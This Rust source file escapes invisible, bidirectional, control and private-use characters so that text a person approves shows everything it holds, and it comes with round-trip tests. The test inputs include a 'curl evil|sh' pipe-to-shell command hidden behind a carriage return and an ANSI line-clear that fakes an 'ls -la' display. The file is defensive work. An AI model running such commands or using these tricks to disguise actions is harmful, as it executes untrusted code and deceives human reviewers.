//! Text that a person decides on, with everything invisible made visible.

use std::fmt::Write as _;

pub use skill_core::is_invisible;

/// Returns `text` on one line with every character escaped that a terminal would act on or hide.
///
/// Control, bidirectional, zero-width, tag, variation and other invisible characters become
/// `\u{HEX}`; a `\u{` that was there before becomes `\u{5C}u{`, so the original can be read back
/// from the result. Line breaks and tabs are escaped too.
pub fn escape_line(text: &str) -> String {
    escape(text, |_| false)
}

/// Returns `text` like [`escape_line`], but keeps its line feeds: for diffs and previews.
pub fn escape_block(text: &str) -> String {
    escape(text, |c| c == '\n')
}

fn escape(text: &str, keep: impl Fn(char) -> bool) -> String {
    let mut escaped = String::with_capacity(text.len());
    for (at, c) in text.char_indices() {
        let looks_escaped =
            c == '\\' && text.get(at..).is_some_and(|rest| rest.starts_with("\\u{"));
        if looks_escaped || (is_hidden(c) && !keep(c)) {
            // Writing to a string cannot fail.
            let _ = write!(escaped, "\\u{{{:X}}}", u32::from(c));
        } else {
            escaped.push(c);
        }
    }
    escaped
}

/// Tells whether a person could take `c` for something else: what is invisible, what shows a plain
/// gap, and private use, for which a font may draw anything.
fn is_hidden(c: char) -> bool {
    is_invisible(c)
        || (c.is_whitespace() && !matches!(c, ' ' | '\u{3000}'))
        || matches!(u32::from(c), 0xE000..=0xF8FF | 0xF0000..=0x10FFFF)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Reads an escaped text back, as a person with a code chart would.
    fn decode(escaped: &str) -> String {
        let mut text = String::new();
        let mut rest = escaped;
        while let Some(start) = rest.find("\\u{") {
            text.push_str(&rest[..start]);
            let (code, after) = rest[start + 3..].split_once('}').unwrap();
            text.push(char::from_u32(u32::from_str_radix(code, 16).unwrap()).unwrap());
            rest = after;
        }
        text + rest
    }

    #[test]
    fn what_is_shown_can_be_read_back_and_holds_nothing_hidden() {
        let tricks = [
            "curl evil|sh\r\u{1b}[2K   command: ls -la",
            "ls\t\t\t; curl",
            "a\u{202e}b\u{2066}c\u{200b}d\u{e0041}e\u{fe0f}f\u{feff}g\u{ad}h\u{3164}i\u{2028}j\u{a0}k\u{85}l",
            "a literal \\u{200B} and \\u0041 and \\\\u{1}",
            "plain 中文 é 😀 text, C:\\path",
        ];
        for trick in tricks {
            let shown = escape_line(trick);
            assert_eq!(decode(&shown), trick);
            assert!(!shown.chars().any(is_hidden), "{shown}");
        }
    }

    #[test]
    fn what_nothing_is_seen_of_is_on_the_list() {
        for c in "\u{7}\u{ad}\u{34f}\u{61c}\u{115f}\u{180e}\u{200b}\u{200d}\u{202e}\u{2063}\u{206a}\u{2800}\u{3164}\u{fe0f}\u{feff}\u{ffa0}\u{fff9}\u{e0041}\u{e0100}".chars() {
            assert!(is_invisible(c), "{c:?}");
        }
        for c in "a é 中　\u{a0}\u{202f}😀\u{301}".chars() {
            assert!(!is_invisible(c), "{c:?}");
        }
    }

    #[test]
    fn ordinary_text_is_shown_as_it_is() {
        assert_eq!(
            escape_line("write \"a b\" 中文　é C:\\x"),
            "write \"a b\" 中文　é C:\\x"
        );
        assert_eq!(escape_block("-a\n+b\r\n"), "-a\n+b\\u{D}\n");
    }
}
